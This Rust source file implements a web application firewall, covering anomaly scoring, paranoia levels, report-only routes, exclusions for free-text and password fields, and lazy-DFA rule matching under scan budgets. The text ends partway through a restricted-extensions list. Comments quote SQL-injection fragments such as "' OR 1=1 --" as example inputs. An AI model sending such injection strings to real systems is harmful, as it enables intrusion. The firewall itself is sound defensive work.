//! The web application firewall: normalisation, anomaly scoring over rule classes, paranoia
//! levels, per-route exclusions and protocol checks — plain Rust, run natively by the local
//! platform and `regrooter waf check`, and as wasm in the Worker.
//!
//! Every request collects the scores of the distinct rules it trips; at the inbound threshold
//! (5, one critical rule) it is blocked. Paranoia level 1 runs only the precise rules; higher
//! levels add broader ones that also catch more legitimate traffic.

pub mod corpus;
pub mod hostile;
pub mod normalize;
pub mod prefilter;
pub mod request;
pub mod rules;

use std::borrow::Cow;
use std::collections::BTreeSet;

use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};

use aho_corasick::Anchored;
use aho_corasick::automaton::{Automaton, StateID};
use aho_corasick::dfa::DFA as FactorDfa;
use regex_automata::hybrid::LazyStateID;
use regex_automata::hybrid::dfa::{Cache, DFA};
use regex_automata::nfa::thompson;
use regex_automata::util::syntax;
use regex_automata::{Input, MatchKind};

use prefilter::ByteSet;
use regex_syntax::hir::Hir;
pub use request::{CapHit, Caps, Location, ProtocolIssue, Target, WafRequest};
pub use rules::Class;
use rules::{RULES, RuleDef, View};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Action {
    Allow,
    Block,
    /// Would have been blocked, but the deciding rules or the route are in report-only mode:
    /// the request passes and the decision is logged as a security event.
    Log,
}

impl Action {
    pub fn as_str(self) -> &'static str {
        match self {
            Action::Allow => "allow",
            Action::Block => "block",
            Action::Log => "log",
        }
    }
}

/// What a rule or a route does when it decides: block, or only log (report-only), the way a
/// CRS deployment rolls a new rule out — watched in the security events before it blocks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    Block,
    Log,
}

/// A route in report-only mode (`*` as method matches any; a trailing `*` any rest of path).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RouteMode {
    pub method: String,
    pub path: String,
}

/// The report-only settings: rules and routes that log instead of blocking.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ReportOnly {
    pub rules: BTreeSet<u32>,
    pub routes: Vec<RouteMode>,
}

impl ReportOnly {
    /// Parses `REGROOTER_WAF_REPORT_ONLY` (locally) / `WAF_REPORT_ONLY` (the Worker): a comma
    /// separated list of rule ids (`921130`) and routes (`POST /api/sla*`, `* /portal/*`).
    /// Every entry that is neither is named in the error, all at once.
    pub fn parse(spec: &str) -> Result<Self, String> {
        let mut out = ReportOnly::default();
        let mut bad = Vec::new();
        for entry in spec.split(',').map(str::trim).filter(|e| !e.is_empty()) {
            if let Ok(id) = entry.parse::<u32>() {
                if RULES.iter().any(|r| r.id == id) || protocol_ids::ALL.contains(&id) {
                    out.rules.insert(id);
                } else {
                    bad.push(format!("{entry:?} is no rule id"));
                }
                continue;
            }
            match entry.split_once(' ') {
                Some((method, path))
                    if path.trim().starts_with('/')
                        && (method == "*" || ALLOWED_METHODS.contains(&method)) =>
                {
                    out.routes.push(RouteMode {
                        method: method.to_string(),
                        path: path.trim().to_string(),
                    })
                }
                _ => bad.push(format!(
                    "{entry:?} is neither a rule id nor a route like \"POST /api/x*\""
                )),
            }
        }
        if bad.is_empty() {
            Ok(out)
        } else {
            Err(format!("WAF report-only settings: {}", bad.join("; ")))
        }
    }

    /// The mode of a route.
    pub fn route_mode(&self, method: &str, path: &str) -> Mode {
        if self
            .routes
            .iter()
            .any(|r| route_matches(&r.method, &r.path, method, path))
        {
            Mode::Log
        } else {
            Mode::Block
        }
    }
}

fn route_matches(rule_method: &str, rule_path: &str, method: &str, path: &str) -> bool {
    let method_ok = rule_method == "*" || rule_method.eq_ignore_ascii_case(method);
    let path_ok = match rule_path.strip_suffix('*') {
        Some(prefix) => path.starts_with(prefix),
        None => path == rule_path,
    };
    method_ok && path_ok
}

/// The outcome of inspecting one request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    pub action: Action,
    pub score: u32,
    /// Ids of every rule that matched, ascending.
    pub rules: Vec<u32>,
    pub classes: BTreeSet<Class>,
    /// Rules that matched in report-only mode (in `rules` too, not in `score`).
    pub logged_rules: Vec<u32>,
    /// The score the report-only rules would have added.
    pub logged_score: u32,
    /// The rule automata's work on this request: bytes searched, summed over pattern groups
    /// (see `Caps::scan_per_byte`). A cost, not part of the decision.
    pub scanned_bytes: usize,
    /// Bytes of automaton states built for this request (see `Caps::states_per_byte`). A
    /// cost, not part of the decision.
    pub state_bytes: usize,
}

/// Arguments a route's free text may carry that look like attacks by nature.
#[derive(Debug, Clone)]
pub struct Exclusion {
    pub method: &'static str,
    pub path: &'static str,
    pub scope: ExclusionScope,
}

#[derive(Debug, Clone)]
pub enum ExclusionScope {
    /// These argument values are not inspected by content rules (the rest of the request is).
    Args(&'static [&'static str]),
    /// These argument values are secrets (passwords): only the rules made for secrets read them
    /// (`rules::SECRETS`), never the others.
    Secrets(&'static [&'static str]),
    /// The body is passed on byte for byte, uninspected (a signed machine payload).
    Body,
}

/// The security report's five free-text fields describe attacks by design: a reporter writes
/// "the filter accepts ' OR 1=1 --". They are stored sealed and never rendered unescaped.
pub const REPORT_FREE_TEXT: &[&str] = &[
    "description",
    "affected_parties",
    "personal_data_kind",
    "scope",
    "impact_assessment",
    "affected_product",
    "steps_to_reproduce",
];

/// Narrative fields the security team and customers write about incidents, measures and
/// outages: the same kind of free text as a report, behind the token gate.
pub const NARRATIVE_FREE_TEXT: &[&str] = &[
    "nature_and_scope",
    "likely_consequences",
    "what",
    "justification",
    "title",
    "note",
    "reason",
    "text",
];

/// A reporter's message to the security team on the status page: free text like the report.
pub const REPORTER_MESSAGE: &[&str] = &["text"];

/// Passwords are arbitrary by nature (`$(Sommer)2026`, `Or1=1notreally`): never sent on, only
/// hashed, so the sign-in and activation steps read them only with the rules made for secrets
/// (LDAP filter and NoSQL injection, the two a sign-in's lookup could fall for).
pub const PASSWORD_FIELDS: &[&str] = &["password", "new_password", "current_password"];

pub fn platform_exclusions() -> Vec<Exclusion> {
    vec![
        Exclusion {
            method: "POST",
            path: "/auth/*",
            scope: ExclusionScope::Secrets(PASSWORD_FIELDS),
        },
        Exclusion {
            method: "POST",
            path: "/portal/session/*",
            scope: ExclusionScope::Secrets(PASSWORD_FIELDS),
        },
        Exclusion {
            method: "POST",
            path: "/security/reports",
            scope: ExclusionScope::Args(REPORT_FREE_TEXT),
        },
        Exclusion {
            method: "POST",
            path: kernel::report_limits::STATUS_MESSAGES,
            scope: ExclusionScope::Args(REPORTER_MESSAGE),
        },
        Exclusion {
            method: "POST",
            path: "/console/reports/*",
            scope: ExclusionScope::Args(REPORTER_MESSAGE),
        },
        Exclusion {
            method: "*",
            path: "/api/incidents*",
            scope: ExclusionScope::Args(NARRATIVE_FREE_TEXT),
        },
        Exclusion {
            method: "POST",
            path: "/api/reports/*",
            scope: ExclusionScope::Args(NARRATIVE_FREE_TEXT),
        },
        Exclusion {
            method: "*",
            path: "/api/sla*",
            scope: ExclusionScope::Args(NARRATIVE_FREE_TEXT),
        },
        Exclusion {
            method: "POST",
            path: "/stripe/webhook",
            scope: ExclusionScope::Body,
        },
    ]
}

#[derive(Debug, Clone)]
pub struct WafConfig {
    /// 1 (default, fewest false positives) to 4 (strictest).
    pub paranoia: u8,
    /// Inbound anomaly score at which a request is blocked.
    pub threshold: u32,
    pub max_body_bytes: usize,
    pub max_header_bytes: usize,
    pub max_headers: usize,
    pub max_uri_bytes: usize,
    /// Caps on the walk over arguments (count, JSON depth, name length).
    pub caps: Caps,
    pub exclusions: Vec<Exclusion>,
    pub report_only: ReportOnly,
}

impl Default for WafConfig {
    fn default() -> Self {
        Self {
            paranoia: 1,
            threshold: 5,
            max_body_bytes: 1024 * 1024,
            max_header_bytes: 8 * 1024,
            max_headers: 100,
            max_uri_bytes: 8 * 1024,
            caps: Caps::default(),
            exclusions: platform_exclusions(),
            report_only: ReportOnly::default(),
        }
    }
}

/// One view's rules as a few lazy DFAs over groups of their patterns. The regex crate's
/// `RegexSet` gives its lazy DFA up when the cache is cleared often and falls back to a much
/// slower NFA simulation mid-search; these DFAs never give up (they clear their cache and go
/// on), so every byte costs bounded work: linear time, memory bounded by the cache capacity.
/// One DFA over all of a view's patterns had so many states (their product) that building new
/// ones took 90 % of the inspection time; small groups keep the states few and cached.
struct CompiledView {
    view: View,
    groups: Vec<PatternGroup>,
}

/// The literal factors of every view's patterns (see `prefilter::factors`), and one automaton
/// that finds them all in a text in one pass. Each factor knows the groups it may open and the
/// needs it meets; a group then opens when one of its needs is met whole (see `Gate`).
struct Factors {
    automaton: Option<FactorDfa>,
    /// By factor id: the groups (slots) with a pattern that has this factor, and the needs
    /// (see `Gate`) it meets.
    opens: Vec<(GroupSet, NeedSet)>,
}

/// A set of small numbers: pattern groups by slot (`GroupSet`, at most 256: `Waf::new`
/// checks), the patterns' needs by number (`NeedSet`, at most 512).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct BitSet<const WORDS: usize>([u64; WORDS]);

type GroupSet = BitSet<4>;
type NeedSet = BitSet<8>;

impl<const WORDS: usize> Default for BitSet<WORDS> {
    fn default() -> Self {
        Self([0; WORDS])
    }
}

impl<const WORDS: usize> BitSet<WORDS> {
    const ALL: Self = Self([u64::MAX; WORDS]);
    const CAPACITY: usize = WORDS * 64;

    fn insert(&mut self, slot: usize) {
        if let Some(word) = self.0.get_mut(slot / 64) {
            *word |= 1 << (slot % 64);
        }
    }

    fn contains(&self, slot: usize) -> bool {
        self.0
            .get(slot / 64)
            .is_some_and(|word| word & (1 << (slot % 64)) != 0)
    }

    fn union_with(&mut self, other: &Self) {
        for (a, b) in self.0.iter_mut().zip(other.0) {
            *a |= b;
        }
    }
}

impl Factors {
    /// `ids` numbers the factors; `opens[id]` are the groups each opens and the needs it meets.
    fn build(
        ids: std::collections::BTreeMap<Vec<u8>, usize>,
        opens: Vec<(GroupSet, NeedSet)>,
    ) -> Result<Self, String> {
        let mut ordered: Vec<(usize, Vec<u8>)> = ids.into_iter().map(|(f, id)| (id, f)).collect();
        ordered.sort();
        let automaton = if ordered.is_empty() {
            None
        } else {
            Some(
                // A full DFA, walked by `find`: one table look-up per byte (about 3 MB for the
                // rule set's ~1,300 factors). Standard semantics: every state holds every
                // factor that ends where it is entered.
                FactorDfa::builder()
                    .match_kind(aho_corasick::MatchKind::Standard)
                    .start_kind(aho_corasick::StartKind::Unanchored)
                    .build(ordered.iter().map(|(_, f)| f))
                    .map_err(|e| e.to_string())?,
            )
        };
        Ok(Self { automaton, opens })
    }

    /// The groups opened by the factors `text` contains, and the needs those factors meet.
    /// One walk of the automaton, a table look-up per byte; a match state seen a moment ago is
    /// not read again, so text dense with factors (`&` repeated) costs about what plain text
    /// does.
    fn find(&self, text: &[u8]) -> (GroupSet, NeedSet) {
        let mut open = (GroupSet::default(), NeedSet::default());
        let Some(dfa) = &self.automaton else {
            return open;
        };
        let Ok(mut sid) = dfa.start_state(Anchored::No) else {
            // Not built for unanchored searches (it is): every gate opens.
            return (GroupSet::ALL, NeedSet::ALL);
        };
        let mut recent = RecentStates::<StateID>::default();
        for &byte in text {
            sid = dfa.next_state(Anchored::No, sid, byte);
            if dfa.is_match(sid) && recent.first_time(sid) {
                for index in 0..dfa.match_len(sid) {
                    if let Some((groups, needs)) =
                        self.opens.get(dfa.match_pattern(sid, index).as_usize())
                    {
                        open.0.union_with(groups);
                        open.1.union_with(needs);
                    }
                }
            }
        }
        open
    }
}

/// The last few match states a walk passed through: in text that repeats itself the same few
/// come back at every step, and what they hold is known already.
struct RecentStates<S> {
    states: [Option<S>; 8],
    next: usize,
}

impl<S> Default for RecentStates<S> {
    fn default() -> Self {
        Self {
            states: [None, None, None, None, None, None, None, None],
            next: 0,
        }
    }
}

impl<S: Copy + PartialEq> RecentStates<S> {
    /// False when `state` is one of the last few; else remembers it (forgetting the oldest).
    fn first_time(&mut self, state: S) -> bool {
        if self.states.contains(&Some(state)) {
            return false;
        }
        if let Some(slot) = self.states.get_mut(self.next % 8) {
            *slot = Some(state);
        }
        self.next = self.next.wrapping_add(1);
        true
    }

    fn forget(&mut self) {
        *self = Self::default();
    }
}

/// When a group's DFA must search a value: when one of its patterns may match, which each
/// alternative of a pattern tells by its need (`prefilter::needs`): one of its literal factors
/// is in the value, and one of its required bytes.
#[derive(Debug, Clone, Default)]
struct Gate {
    /// An alternative that needs nothing: the group always searches.
    always: bool,
    /// Bytes of which the alternatives gated by bytes alone need one.
    bytes: ByteSet,
    /// The alternatives gated by factors: the need's number (see `Factors::opens`) and the
    /// bytes it needs besides.
    factored: Vec<(usize, Option<ByteSet>)>,
    /// Factor ids (into the automaton) of the factored needs.
    factors: Vec<usize>,
    /// For a group of start-anchored patterns: the bytes a text must begin with for one of
    /// them to match (`None`: any text, or an empty one, may match).
    first: Option<ByteSet>,
}

impl Gate {
    /// `opened` are the groups the value's factors opened and the needs they met; `slot` is
    /// this gate's group.
    fn opens(&self, present: &ByteSet, opened: &(GroupSet, NeedSet), slot: usize) -> bool {
        self.always
            || self.bytes.intersects(present)
            || opened.0.contains(slot)
                && self.factored.iter().any(|(need, bytes)| {
                    opened.1.contains(*need) && bytes.is_none_or(|b| b.intersects(present))
                })
    }
}

struct PatternGroup {
    dfa: DFA,
    gate: Gate,
    /// This group's cache in an inspection's set of caches (see `Waf::caches`).
    slot: usize,
    /// Index into `RULES` of each pattern of the DFA.
    rules: Vec<usize>,
    /// Every pattern matches only at the start of a text: the walk is anchored there and ends
    /// where no pattern can go on (within a few bytes, for most texts).
    anchored: bool,
}

/// The lazy DFA's cache capacity per group: plenty for a group's states.
const DFA_CACHE_BYTES: usize = 2 * 1024 * 1024;

/// A rule a value tripped: its id, class and score.
type Finding = (u32, Class, u8);

/// One inspection's automata: its set of DFA caches and the work they did, against its budget
/// (`Caps::scan_per_byte`).
struct Scan<'a> {
    caches: Vec<Cache>,
    /// Bytes searched so far, summed over pattern groups.
    spent: usize,
    budget: usize,
    /// A search was refused for want of budget: the findings are incomplete.
    spent_out: bool,
    /// Bytes of states the DFAs built so far.
    grown: usize,
    /// What they may still build: the request's state budget (`Caps::states_per_byte`) left,
    /// and then the WAF's warm-up allowance.
    states_left: usize,
    warm_up: &'a AtomicUsize,
}

impl Scan<'_> {
    /// Takes `bytes` of work from the budget; false (and nothing taken) when it would run out.
    fn take(&mut self, bytes: usize) -> bool {
        match self.spent.checked_add(bytes) {
            Some(total) if total <= self.budget => {
                self.spent = total;
                true
            }
            _ => {
                self.spent_out = true;
                false
            }
        }
    }
}

/// Header values up to this length are remembered, at most this many (then the memo starts
/// over): a few hundred kilobytes at most.
const HEADER_MEMO_VALUE: usize = 512;
const HEADER_MEMO_ENTRIES: usize = 512;

/// Patterns per group. A pattern with a long bounded repetition (`{0,200}`) or a window after an
/// opener gets a group of its own: its states multiply with every other pattern's.
const GROUP_SIZE: usize = 8;
// A group's walk keeps its unmatched patterns as bits of a u32.
const _: () = assert!(GROUP_SIZE < 32);

fn is_heavy(pattern: &str) -> bool {
    // A window after an opener (`{{[^{}]*?…`, the template rules): its partial matches inside
    // the window multiply with every other pattern's states too.
    if pattern.contains("[^{}]*?") || pattern.contains("[^%]*?") {
        return true;
    }
    // `{m,n}` with n of two digits or more.
    let bytes = pattern.as_bytes();
    bytes.windows(4).enumerate().any(|(i, w)| {
        w[0] == b',' && w[1].is_ascii_digit() && w[2].is_ascii_digit() && {
            let rest = &bytes[i + 1..];
            let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
            rest.get(digits) == Some(&b'}')
        }
    })
}

/// A rule's pattern, or the part of it that matches only at the start of a text or the rest
/// (see `prefilter::split_anchored`), with what each of its alternatives needs of a text.
struct Piece {
    rule: usize,
    hir: Hir,
    anchored: bool,
    heavy: bool,
    needs: Vec<prefilter::Need>,
}

impl Piece {
    /// A rule's pieces: whole, or split at its start-anchored alternatives.
    fn of(rule: usize, split: bool) -> Result<Vec<Piece>, String> {
        let hir =
            syntax::parse_with(RULES[rule].pattern, &dfa_syntax()).map_err(|e| e.to_string())?;
        let heavy = is_heavy(RULES[rule].pattern);
        let (anchored, rest) = if split {
            prefilter::split_anchored(&hir)
        } else {
            (None, Some(hir))
        };
        // A start-anchored piece whose match may run on over most text is searched like the
        // rest (its anchor still holds it to the start): its walk would not end early.
        let piece = |hir: Hir, anchored: bool| Piece {
            rule,
            needs: prefilter::needs(&hir),
            anchored: anchored && !prefilter::may_run_on(&hir),
            hir,
            heavy,
        };
        Ok(anchored
            .map(|hir| piece(hir, true))
            .into_iter()
            .chain(rest.map(|hir| piece(hir, false)))
            .collect())
    }

    /// Gated by factors alone (then by the bytes of the byte-gated alternatives): pieces with
    /// like gates share a group, so that a group's gate stays as narrow as its members'.
    fn gate_order(&self) -> (bool, [u64; 4]) {
        let bytes_only = self
            .needs
            .iter()
            .filter(|n| n.factors.is_none())
            .filter_map(|n| n.bytes)
            .fold(ByteSet::default(), ByteSet::union);
        (
            self.needs.iter().any(|n| n.factors.is_none()),
            bytes_only.bits(),
        )
    }
}

impl CompiledView {
    /// `factor_ids` numbers the factors of every view (this view's are added to it), `needs`
    /// the factored needs (this view's are added); `split` takes the start-anchored
    /// alternatives of a pattern apart from the rest (off only in the test that proves it
    /// changes no verdict).
    fn build(
        view: View,
        rules: Vec<usize>,
        factor_ids: &mut std::collections::BTreeMap<Vec<u8>, usize>,
        needs: &mut Vec<Vec<usize>>,
        split: bool,
    ) -> Result<Self, String> {
        let mut pieces = Vec::new();
        for rule in rules {
            pieces.extend(Piece::of(rule, split)?);
        }
        // Every distinct factor once, numbered for the automaton.
        for need in pieces.iter().flat_map(|p| &p.needs) {
            for factor in need.factors.iter().flatten() {
                let next = factor_ids.len();
                factor_ids.entry(factor.clone()).or_insert(next);
            }
        }
        // The start-anchored pieces apart from the rest: an anchored walk has one thread, so
        // their states do not multiply (a heavy one among them too), and it ends early. Of the
        // rest a heavy pattern alone. Each by gate.
        let (mut anchored, rest): (Vec<Piece>, Vec<Piece>) =
            pieces.into_iter().partition(|p| p.anchored);
        let (heavy, mut light): (Vec<Piece>, Vec<Piece>) = rest.into_iter().partition(|p| p.heavy);
        anchored.sort_by_key(Piece::gate_order);
        light.sort_by_key(Piece::gate_order);
        let mut groups = Vec::new();
        let chunks = anchored
            .chunks(GROUP_SIZE)
            .chain(heavy.chunks(1))
            .chain(light.chunks(GROUP_SIZE));
        for chunk in chunks {
            let mut gate = Gate::default();
            for need in chunk.iter().flat_map(|p| &p.needs) {
                match (&need.factors, need.bytes) {
                    (Some(set), bytes) => {
                        let ids: Vec<usize> = set
                            .iter()
                            .filter_map(|f| factor_ids.get(f).copied())
                            .collect();
                        gate.factored.push((needs.len(), bytes));
                        gate.factors.extend(&ids);
                        needs.push(ids);
                    }
                    (None, Some(bytes)) => gate.bytes = gate.bytes.union(bytes),
                    (None, None) => gate.always = true,
                }
            }
            gate.factors.sort_unstable();
            gate.factors.dedup();
            let trees: Vec<&Hir> = chunk.iter().map(|p| &p.hir).collect();
            let rules = chunk.iter().map(|p| p.rule).collect();
            let anchored = chunk.iter().all(|p| p.anchored);
            if anchored {
                gate.first = chunk
                    .iter()
                    .map(|p| prefilter::first_bytes(&p.hir))
                    .try_fold(ByteSet::default(), |all, first| first.map(|f| all.union(f)));
            }
            groups.push(PatternGroup::build(rules, &trees, gate, anchored)?);
        }
        Ok(Self { view, groups })
    }

    /// Every rule whose pattern matches somewhere in `text` (indices into `RULES`); `present`
    /// is the set of bytes of `text`.
    fn matches(
        &self,
        text: &[u8],
        present: &ByteSet,
        opened: &(GroupSet, NeedSet),
        scan: &mut Scan,
        found: &mut Vec<usize>,
    ) {
        // On a long text the anchored groups go first: each is paid for the whole text, and
        // what its walk did not search (most of it) is given back before the others are paid
        // for, so that walks which end early do not raise what a request must have left. On a
        // short one that is next to nothing, and one walk for all costs less to set up.
        let phases: &[Option<bool>] = if text.len() <= GROWTH_CHECK_BYTES {
            &[None]
        } else {
            &[Some(true), Some(false)]
        };
        let Some(first) = self.groups.first().map(|g| g.slot) else {
            return;
        };
        // An anchored group whose patterns cannot begin as the text does is not walked.
        let begins = |first: ByteSet| text.first().is_some_and(|b| first.contains(*b));
        for phase in phases {
            if scan.spent_out {
                return;
            }
            // The groups whose gates open, as far as the budget pays for them.
            let mut chosen = GroupSet::default();
            let in_phase = |g: &&PatternGroup| phase.is_none_or(|anchored| g.anchored == anchored);
            for group in self.groups.iter().filter(in_phase) {
                if group.gate.first.is_none_or(begins)
                    && group.gate.opens(present, opened, group.slot)
                {
                    if !scan.take(text.len()) {
                        break;
                    }
                    chosen.insert(group.slot);
                }
            }
            if chosen == GroupSet::default() {
                continue;
            }
            // A view's groups hold consecutive slots: their caches are one slice.
            let Some(caches) = scan.caches.get_mut(first..first + self.groups.len()) else {
                return;
            };
            let walkers = self
                .groups
                .iter()
                .zip(caches.iter_mut())
                .filter(|(group, _)| chosen.contains(group.slot))
                .filter_map(|(group, cache)| Walker::start(group, cache, text))
                .collect();
            let mut allowance = StateAllowance {
                left: scan.states_left,
                warm_up: Some(scan.warm_up),
                charged: 0,
            };
            let walked = walk_together(walkers, text, found, &mut allowance);
            scan.states_left = allowance.left;
            scan.grown = scan.grown.saturating_add(allowance.charged);
            // Each group was paid for the whole text; what walks ended early did not search is
            // given back.
            scan.spent = scan.spent.saturating_sub(walked.unwalked);
            if !walked.within {
                scan.spent_out = true;
            }
        }
    }
}

/// One group's walk over a text: its DFA, cache and state, and what it has matched.
struct Walker<'a> {
    group: &'a PatternGroup,
    cache: &'a mut Cache,
    sid: LazyStateID,
    walk: GroupWalk,
    /// The cache's size and clear count when its growth was last taken.
    memory: usize,
    clears: usize,
}

impl<'a> Walker<'a> {
    /// Without a minimum clear count the DFA never gives up, so errors cannot happen; one
    /// would end this group's walk (the others still run).
    fn start(group: &'a PatternGroup, cache: &'a mut Cache, text: &[u8]) -> Option<Self> {
        let anchored = if group.anchored {
            regex_automata::Anchored::Yes
        } else {
            regex_automata::Anchored::No
        };
        let sid = group
            .dfa
            .start_state_forward(cache, &Input::new(text).anchored(anchored))
            .ok()?;
        let walk = GroupWalk {
            unseen: (1u32 << group.rules.len().min(31)) - 1,
            recent: RecentStates::default(),
            clears: cache.clear_count(),
        };
        Some(Self {
            memory: cache.memory_usage(),
            clears: cache.clear_count(),
            group,
            cache,
            sid,
            walk,
        })
    }

    /// Bytes of states the cache has gained since last asked. A cleared cache was full when
    /// it was cleared: what it held then counts as gained.
    fn growth(&mut self) -> usize {
        let memory = self.cache.memory_usage();
        let clears = self.cache.clear_count();
        let cleared = clears.saturating_sub(self.clears);
        let grown = if cleared == 0 {
            memory.saturating_sub(self.memory)
        } else {
            DFA_CACHE_BYTES
                .saturating_sub(self.memory)
                .saturating_add(DFA_CACHE_BYTES.saturating_mul(cleared - 1))
                .saturating_add(memory)
        };
        self.memory = memory;
        self.clears = clears;
        grown
    }

    /// Steps over one byte; false when this walk is over.
    #[inline]
    fn step(&mut self, byte: u8, found: &mut Vec<usize>) -> bool {
        match self.group.dfa.next_state(self.cache, self.sid, byte) {
            Ok(sid) => {
                self.sid = sid;
                !sid.is_tagged() || self.group.read(&mut self.walk, self.cache, sid, found)
            }
            Err(_) => false,
        }
    }

    /// The end-of-input step: the DFA's matches show one byte late.
    fn finish(&mut self, found: &mut Vec<usize>) {
        if let Ok(sid) = self.group.dfa.next_eoi_state(self.cache, self.sid)
            && sid.is_tagged()
        {
            self.group.read(&mut self.walk, self.cache, sid, found);
        }
    }
}

/// Walks every group over `text` at once, byte by byte. A DFA step is a table look-up that
/// waits on the one before it; the steps of different groups do not wait on each other, so
/// taken side by side they overlap and a group costs much less than a walk of its own.
///
/// A lazy DFA builds a state the first time the text leads it there, and building one costs
/// what walking hundreds of bytes does. Most texts need few states, and those once; a text can
/// be made to need a new one at nearly every byte (ms per KB). So what the DFAs grow by is
/// paid from `allowance` (the request's state budget, then the WAF's warm-up allowance) as it
/// grows, and the walk stops, not `within`, once the allowance is spent.
fn walk_together(
    mut walkers: Vec<Walker<'_>>,
    text: &[u8],
    found: &mut Vec<usize>,
    allowance: &mut StateAllowance<'_>,
) -> Walked {
    let mut grown = 0usize;
    let mut walked = Walked {
        within: true,
        unwalked: 0,
    };
    for (block_index, block) in text.chunks(GROWTH_CHECK_BYTES).enumerate() {
        // Bytes after this block, and (from the iterator) after the current byte in it: what a
        // walk that ends here did not search.
        let after_block = text
            .len()
            .saturating_sub(block_index * GROWTH_CHECK_BYTES + block.len());
        let mut bytes = block.iter();
        while let Some(&byte) = bytes.next() {
            let mut index = 0;
            while let Some(walker) = walkers.get_mut(index) {
                if walker.step(byte, found) {
                    index += 1;
                } else {
                    // Its walk is over (an anchored walk soon, others rarely): the last walker
                    // takes its place.
                    grown = grown.saturating_add(walker.growth());
                    walked.unwalked = walked.unwalked.saturating_add(after_block + bytes.len());
                    walkers.swap_remove(index);
                }
            }
            if walkers.is_empty() {
                break;
            }
        }
        for walker in &mut walkers {
            grown = grown.saturating_add(walker.growth());
        }
        if !allowance.charge(std::mem::take(&mut grown)) {
            walked.within = false;
            return walked;
        }
        if walkers.is_empty() {
            return walked;
        }
    }
    for walker in &mut walkers {
        walker.finish(found);
        grown = grown.saturating_add(walker.growth());
    }
    walked.within = allowance.charge(grown);
    walked
}

/// How a walk of groups went: within its state allowance, and the bytes of text its walkers
/// did not search because their walks ended early (one count per walker).
struct Walked {
    within: bool,
    unwalked: usize,
}

/// Bytes walked between two looks at how much the walkers' DFAs have grown.
const GROWTH_CHECK_BYTES: usize = 1024;

/// Requests after which a spent warm-up allowance is whole again.
const WARM_UP_REFILLS: usize = 256;

/// What the DFAs may still grow by in a walk: the request's state budget left, then the WAF's
/// warm-up allowance (see `Caps::warm_up_states`).
struct StateAllowance<'a> {
    left: usize,
    warm_up: Option<&'a AtomicUsize>,
    /// Bytes of states built so far, whether the allowance covered them or not.
    charged: usize,
}

impl StateAllowance<'_> {
    /// An allowance of `left` bytes alone.
    #[cfg(test)]
    fn of(left: usize) -> Self {
        Self {
            left,
            warm_up: None,
            charged: 0,
        }
    }

    /// Takes `cost`; false (and the request's budget spent) when neither the budget nor the
    /// warm-up allowance covers it.
    fn charge(&mut self, cost: usize) -> bool {
        self.charged = self.charged.saturating_add(cost);
        if let Some(left) = self.left.checked_sub(cost) {
            self.left = left;
            return true;
        }
        let short = cost - self.left;
        self.left = 0;
        self.warm_up.is_some_and(|pool| {
            pool.fetch_update(Ordering::Relaxed, Ordering::Relaxed, |p| {
                p.checked_sub(short)
            })
            .is_ok()
        })
    }
}

/// Byte-oriented and ASCII-only: the values are lowercased and decoded already, and ASCII
/// classes keep the automata small and fast.
fn dfa_syntax() -> syntax::Config {
    syntax::Config::new().unicode(false).utf8(false)
}

impl PatternGroup {
    /// `trees` are the syntax trees of `rules`' patterns, in the same order.
    fn build(
        rules: Vec<usize>,
        trees: &[&Hir],
        gate: Gate,
        anchored: bool,
    ) -> Result<Self, String> {
        let nfa = thompson::Compiler::new()
            .configure(thompson::Config::new().utf8(false))
            .build_many_from_hir(trees)
            .map_err(|e| e.to_string())?;
        let dfa = DFA::builder()
            .configure(
                DFA::config()
                    .match_kind(MatchKind::All)
                    .cache_capacity(DFA_CACHE_BYTES),
            )
            .build_from_nfa(nfa)
            .map_err(|e| e.to_string())?;
        Ok(Self {
            dfa,
            gate,
            slot: 0,
            rules,
            anchored,
        })
    }

    /// Reads a special state a walk entered (see `Walker`): which patterns a match state holds
    /// is read only the first time it comes. False when the walk is over (a dead end, or every
    /// pattern has matched).
    fn read(
        &self,
        walk: &mut GroupWalk,
        cache: &Cache,
        sid: LazyStateID,
        found: &mut Vec<usize>,
    ) -> bool {
        if sid.is_dead() || sid.is_quit() {
            return false;
        }
        if !sid.is_match() {
            return true;
        }
        // A cleared cache renumbers its states: what was recent means nothing.
        if cache.clear_count() != walk.clears {
            walk.clears = cache.clear_count();
            walk.recent.forget();
        }
        if walk.recent.first_time(sid) {
            for index in 0..self.dfa.match_len(cache, sid) {
                let pattern = self.dfa.match_pattern(cache, sid, index).as_usize();
                let bit = 1u32 << pattern.min(31);
                if walk.unseen & bit != 0 {
                    walk.unseen &= !bit;
                    if let Some(rule) = self.rules.get(pattern) {
                        found.push(*rule);
                    }
                }
            }
        }
        walk.unseen != 0
    }
}

/// Where a group's walk is: the patterns not yet matched (a bit each) and the match states
/// just read.
struct GroupWalk {
    unseen: u32,
    recent: RecentStates<LazyStateID>,
    clears: usize,
}

pub struct Waf {
    config: WafConfig,
    views: Vec<CompiledView>,
    factors: Factors,
    /// Sets of DFA caches, one cache per pattern group in slot order: an inspection takes a
    /// set and gives it back (one set per concurrent inspection; one in the Worker).
    caches: Mutex<Vec<Vec<Cache>>>,
    /// What header values matched, by value (see `scan`).
    header_memo: Mutex<std::collections::HashMap<String, Vec<Finding>>>,
    /// Bytes of states fresh automata may still build past a request's budget
    /// (`Caps::warm_up_states`).
    warm_up: AtomicUsize,
    /// Skip pattern groups by their gates (off only in the test that proves it changes no
    /// verdict).
    prefilter: bool,
}

const ALLOWED_METHODS: &[&str] = &["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
const ALLOWED_VERSIONS: &[&str] = &["HTTP/1.0", "HTTP/1.1", "HTTP/2", "HTTP/2.0", "HTTP/3"];
const ALLOWED_CONTENT_TYPES: &[&str] = &[
    "application/x-www-form-urlencoded",
    "multipart/form-data",
    "multipart/related",
    "text/xml",
    "application/xml",
    "application/soap+xml",
    "application/json",
    "application/problem+json",
    "application/csp-report",
    "application/reports+json",
    "text/plain",
];
const RESTRICTED_HEADERS: &[&str] = &["proxy", "lock-token", "content-range", "translate", "if"];
const RESTRICTED_EXTENSIONS: &[&str] = &[
    "asa",
    "asax",
    "ascx",
    "backup",
    "bak",
    "bat",
    "cdx",
